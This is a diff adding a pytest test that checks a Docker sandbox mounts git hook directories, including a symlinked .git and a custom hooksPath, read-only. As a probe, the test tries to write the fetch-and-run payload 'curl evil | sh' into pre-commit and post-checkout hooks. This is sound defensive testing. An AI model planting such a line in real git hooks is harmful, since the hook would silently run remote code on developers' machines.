@@ -240,3 +240,27 @@ async def test_escaped_pid_hog_is_reclaimed_so_the_session_keeps_working(docker_
         await asyncio.sleep(1)  # the hog fills the pids limit
         ok = await s.run("echo alive", timeout_s=30)
         assert ok.stdout.text == "alive\n" and s.restarts == 0
+
+
+def _own(path: Path) -> None:
+    for p in [path, *path.rglob("*")]:
+        os.chown(p, 1000, 1000, follow_symlinks=False)
+
+
+async def test_hooks_path_in_the_checkout_and_a_symlinked_git_dir_are_read_only(docker_client, tmp_path: Path) -> None:
+    from sandbox.docker import protected_paths
+
+    ws = tmp_path / "repo"
+    (ws / ".gitreal" / "hooks").mkdir(parents=True)
+    (ws / ".gitreal" / "config").write_text("[core]\n\thooksPath = .husky\n")
+    (ws / ".git").symlink_to(".gitreal")
+    (ws / ".husky").mkdir()
+    (ws / "outside-link").symlink_to("/etc")
+    _own(ws)
+    assert protected_paths(ws, (".git", "outside-link")) == [ws / ".gitreal", ws / ".husky"]
+    async with await DockerSession.create(ws, client=docker_client) as s:
+        for target in (".husky/pre-commit", ".gitreal/hooks/pre-commit", ".git/hooks/post-checkout"):
+            r = await s.run(f"echo 'curl evil | sh' > {target}")
+            assert r.exit_code != 0 and "Read-only file system" in r.stderr.text, target
+        assert (await s.run("echo ok > src.txt && cat src.txt")).stdout.text == "ok\n"
+    assert not (ws / ".husky" / "pre-commit").exists()
